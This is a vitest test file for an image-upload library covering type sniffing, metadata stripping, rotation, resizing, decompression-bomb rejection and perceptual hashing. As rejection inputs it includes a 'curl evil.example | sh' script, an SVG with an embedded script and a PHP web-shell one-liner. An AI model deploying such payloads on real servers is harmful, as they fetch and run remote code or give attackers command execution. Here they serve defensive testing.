import { readFileSync } from "node:fs";
import sharp, { type Sharp } from "sharp";
import { describe, expect, it } from "vitest";
import {
  canDecodeHevcHeic,
  hammingDistance,
  ImageRejected,
  inspectImage,
  perceptualHash,
  processImage,
  sniffImageType,
  type ImageRejectionReason,
} from "../../lib/images/index.js";
import { decompressionBombPng } from "./bomb.js";

async function rejection(promise: Promise<unknown>): Promise<ImageRejectionReason> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error, "expected an ImageRejected").toBeInstanceOf(ImageRejected);
  return (error as ImageRejected).reason;
}

/** Left half red, right half blue: which way it ends up shows the rotation. */
function halves(width: number, height: number): Sharp {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <rect width="${width / 2}" height="${height}" fill="#ff0000"/>
    <rect x="${width / 2}" width="${width / 2}" height="${height}" fill="#0000ff"/></svg>`;
  return sharp(Buffer.from(svg));
}

/** A picture with structure at several scales, for the perceptual hash. */
function scene(variant: "a" | "b", size = 800): Promise<Buffer> {
  const shapes =
    variant === "a"
      ? `<circle cx="250" cy="300" r="180" fill="#223"/><rect x="480" y="80" width="260" height="600" fill="#eee"/>`
      : `<rect x="60" y="420" width="700" height="300" fill="#111"/><circle cx="620" cy="200" r="140" fill="#fafafa"/>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="800" height="800">
    <defs><linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="${variant === "a" ? "#7a9" : "#c42"}"/>
    <stop offset="1" stop-color="${variant === "a" ? "#345" : "#fd8"}"/></linearGradient></defs>
    <rect width="800" height="800" fill="url(#g)"/>${shapes}</svg>`;
  return sharp(Buffer.from(svg)).resize(size).jpeg({ quality: 90 }).toBuffer();
}

async function pixelAt(webp: Buffer, x: number, y: number): Promise<number[]> {
  const { data, info } = await sharp(webp).raw().toBuffer({ resolveWithObject: true });
  const at = (y * info.width + x) * info.channels;
  return [...data.subarray(at, at + 3)];
}

// An APP13 (Photoshop/IPTC) segment with a caption, put right after the JPEG's SOI marker.
function withIptcCaption(jpeg: Buffer, caption: string): Buffer {
  const text = Buffer.from(caption, "latin1");
  const iptc = Buffer.concat([Buffer.from([0x1c, 0x02, 0x78, text.length >> 8, text.length & 0xff]), text]);
  const padded = iptc.length % 2 ? Buffer.concat([iptc, Buffer.from([0])]) : iptc;
  const size = Buffer.alloc(4);
  size.writeUInt32BE(iptc.length);
  const payload = Buffer.concat([Buffer.from("Photoshop 3.0\0", "latin1"), Buffer.from("8BIM"), Buffer.from([0x04, 0x04, 0, 0]), size, padded]);
  const header = Buffer.from([0xff, 0xed, (payload.length + 2) >> 8, (payload.length + 2) & 0xff]);
  return Buffer.concat([jpeg.subarray(0, 2), header, payload, jpeg.subarray(2)]);
}


describe("sniffImageType", () => {
  it("tells the type from the bytes", async () => {
    const img = sharp({ create: { width: 8, height: 8, channels: 3, background: "#888" } });
    expect(sniffImageType(await img.clone().jpeg().toBuffer())).toBe("jpeg");
    expect(sniffImageType(await img.clone().png().toBuffer())).toBe("png");
    expect(sniffImageType(await img.clone().webp().toBuffer())).toBe("webp");
    expect(sniffImageType(await img.clone().gif().toBuffer())).toBe("gif");
    expect(sniffImageType(readFileSync(new URL("./fixtures/orange-64x48.heic", import.meta.url)))).toBe("heif");
  });

  it("refuses anything else, whatever its name says", () => {
    // What an upload named "cat.jpg" may really hold.
    expect(sniffImageType(Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"))).toBeNull();
    expect(sniffImageType(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))).toBeNull();
    expect(sniffImageType(Buffer.from("%PDF-1.7\n"))).toBeNull();
    // An MP4 video: an ISO-BMFF ftyp box, but no HEIF brand.
    expect(sniffImageType(Buffer.from("0000001c667479706973736f6d0000020069736f6d69736f32617663316d703431", "hex"))).toBeNull();
    expect(sniffImageType(Buffer.from([0xff, 0xd8]))).toBeNull();
    expect(sniffImageType(Buffer.alloc(0))).toBeNull();
  });
});

describe("processImage", () => {
  it("strips EXIF (camera and GPS), XMP and IPTC from every variant", async () => {
    const caption = "Owner home 12 Acacia Road";
    const jpeg = withIptcCaption(
      await halves(1200, 800)
        .withExif({
          IFD0: { Make: "Canon", Model: "EOS 5D", ImageDescription: "kitchen" },
          IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 1234/100", GPSLongitudeRef: "W", GPSLongitude: "0/1 7/1 3900/100", GPSMapDatum: "WGS-84" },
        })
        .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>')
        .jpeg()
        .toBuffer(),
      caption,
    );
    // The input really carries what must go.
    const input = await sharp(jpeg).metadata();
    expect(input.exif && input.xmp && input.iptc).toBeTruthy();
    for (const marker of ["Exif", "Canon", "WGS-84", "<x:xmpmeta", "8BIM", caption]) expect(jpeg.includes(marker), marker).toBe(true);

    const result = await processImage(jpeg);
    for (const [name, variant] of Object.entries(result.variants)) {
      const meta = await sharp(variant.bytes).metadata();
      expect(meta.format, name).toBe("webp");
      expect(meta.exif, name).toBeUndefined();
      expect(meta.xmp, name).toBeUndefined();
      expect(meta.iptc, name).toBeUndefined();
      for (const marker of ["Exif", "EXIF", "GPS", "Canon", "WGS-84", "<x:xmpmeta", "XMP ", "Photoshop", "8BIM", caption]) {
        expect(variant.bytes.includes(marker), `${name} contains ${marker}`).toBe(false);
      }
    }
  });

  it("turns the picture upright by its EXIF orientation", async () => {
    // Stored 400x200 with orientation 6: shown rotated 90 degrees clockwise, the red left half on top.
    const jpeg = await halves(400, 200).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    expect((await sharp(jpeg).metadata()).orientation).toBe(6);
    const result = await processImage(jpeg);
    expect([result.width, result.height]).toEqual([200, 400]);
    const display = result.variants.display.bytes;
    expect(await sharp(display).metadata()).toMatchObject({ width: 200, height: 400 });
    const [r1, , b1] = await pixelAt(display, 100, 50);
    const [r2, , b2] = await pixelAt(display, 100, 350);
    expect(r1).toBeGreaterThan(200);
    expect(b1).toBeLessThan(60);
    expect(b2).toBeGreaterThan(200);
    expect(r2).toBeLessThan(60);
  });

  it("makes a 320 thumb and a 1600 display, never enlarged", async () => {
    const landscape = await processImage(await halves(4000, 3000).jpeg().toBuffer());
    expect(landscape.variants.display).toMatchObject({ width: 1600, height: 1200 });
    expect(landscape.variants.thumb).toMatchObject({ width: 320, height: 240 });
    expect([landscape.width, landscape.height]).toEqual([1600, 1200]);

    const portrait = await processImage(await halves(1000, 3000).png().toBuffer());
    expect(portrait.variants.display).toMatchObject({ width: 533, height: 1600 });
    expect(portrait.variants.thumb).toMatchObject({ width: 107, height: 320 });

    const small = await processImage(await halves(300, 200).webp().toBuffer());
    expect(small.variants.display).toMatchObject({ width: 300, height: 200 });
    expect(small.variants.thumb).toMatchObject({ width: 300, height: 200 });

    // The reported sizes are the WebPs' own.
    for (const variant of [...Object.values(landscape.variants), ...Object.values(portrait.variants)]) {
      expect(await sharp(variant.bytes).metadata()).toMatchObject({ format: "webp", width: variant.width, height: variant.height });
    }
  });

  it("keeps only the first frame of an animated GIF", async () => {
    const frame = (rgb: number[]) => Buffer.alloc(64 * 48 * 3).map((_, i) => rgb[i % 3]!);
    const gif = await sharp(Buffer.concat([frame([255, 0, 0]), frame([0, 0, 255])]), {
      raw: { width: 64, height: 96, channels: 3, pageHeight: 48 },
    })
      .gif()
      .toBuffer();
    expect((await sharp(gif).metadata()).pages).toBe(2);
    const result = await processImage(gif);
    expect(result.type).toBe("gif");
    expect(result.variants.display).toMatchObject({ width: 64, height: 48 });
    expect((await sharp(result.variants.display.bytes).metadata()).pages ?? 1).toBe(1);
    const [r, , b] = await pixelAt(result.variants.display.bytes, 32, 24);
    expect(r).toBeGreaterThan(200);
    expect(b).toBeLessThan(60);
  });

  it("refuses a script saved as .jpg as unsupported", async () => {
    expect(await rejection(processImage(Buffer.from("<?php system($_GET['c']); ?>")))).toBe("unsupported-type");
  });

  it("refuses a truncated JPEG as unreadable", async () => {
    const jpeg = await sharp({ create: { width: 800, height: 600, channels: 3, background: "#888", noise: { type: "gaussian", mean: 128, sigma: 40 } } })
      .jpeg()
      .toBuffer();
    expect(await rejection(processImage(jpeg.subarray(0, Math.floor(jpeg.length * 0.6))))).toBe("unreadable");
    // Cut inside the headers too.
    expect(await rejection(processImage(jpeg.subarray(0, 40)))).toBe("unreadable");
    // PNG magic, then garbage.
    expect(await rejection(processImage(Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.alloc(200, 0x41)])))).toBe("unreadable");
  });

  it("refuses a 30000x30000 PNG bomb as too many pixels, without decoding it", async () => {
    const bomb = await decompressionBombPng();
    expect(bomb.length).toBeLessThan(200_000);
    await expect(inspectImage(bomb).catch((e: unknown) => e)).resolves.toMatchObject({ reason: "too-many-pixels" });
    const rssBefore = process.memoryUsage().rss;
    expect(await rejection(processImage(bomb))).toBe("too-many-pixels");
    const growth = process.memoryUsage().rss - rssBefore;
    expect(growth).toBeLessThan(100 * 1024 * 1024);
  });

  it("handles HEVC HEIC as far as this sharp can decode it", async () => {
    const heic = readFileSync(new URL("./fixtures/orange-64x48.heic", import.meta.url));
    if (await canDecodeHevcHeic()) {
      const result = await processImage(heic);
      expect(result.variants.display).toMatchObject({ width: 64, height: 48 });
    } else {
      // The prebuilt sharp has no HEVC decoder: refused up front, before any job runs.
      expect(await rejection(inspectImage(heic))).toBe("unsupported-type");
      expect(await rejection(processImage(heic))).toBe("unsupported-type");
    }
  });

  it("keeps an alpha channel and reports type and size from inspectImage", async () => {
    const png = await sharp({ create: { width: 500, height: 300, channels: 4, background: { r: 0, g: 128, b: 0, alpha: 0.5 } } })
      .png()
      .toBuffer();
    expect(await inspectImage(png)).toEqual({ type: "png", width: 500, height: 300 });
    const result = await processImage(png);
    expect((await sharp(result.variants.thumb.bytes).metadata()).hasAlpha).toBe(true);
  });
});

describe("perceptual hash", () => {
  it("is close for the same picture resized and recompressed, far for another", async () => {
    const a = await scene("a");
    const aSmall = await sharp(a).resize(333).webp({ quality: 60 }).toBuffer();
    const b = await scene("b");
    const [ha, haSmall, hb] = await Promise.all([perceptualHash(a), perceptualHash(aSmall), perceptualHash(b)]);
    for (const h of [ha, haSmall, hb]) expect(h).toMatch(/^[0-9a-f]{16}$/);
    expect(hammingDistance(ha, haSmall)).toBeLessThanOrEqual(4);
    expect(hammingDistance(ha, hb)).toBeGreaterThanOrEqual(20);
    // processImage hashes the upright picture, so its hash matches the original's.
    expect(hammingDistance((await processImage(a)).phash, ha)).toBeLessThanOrEqual(4);
  });

  it("counts differing bits", () => {
    expect(hammingDistance("0000000000000000", "0000000000000000")).toBe(0);
    expect(hammingDistance("0000000000000000", "ffffffffffffffff")).toBe(64);
    expect(hammingDistance("8000000000000001", "0000000000000000")).toBe(2);
    expect(() => hammingDistance("xyz", "0000000000000000")).toThrow();
  });
});
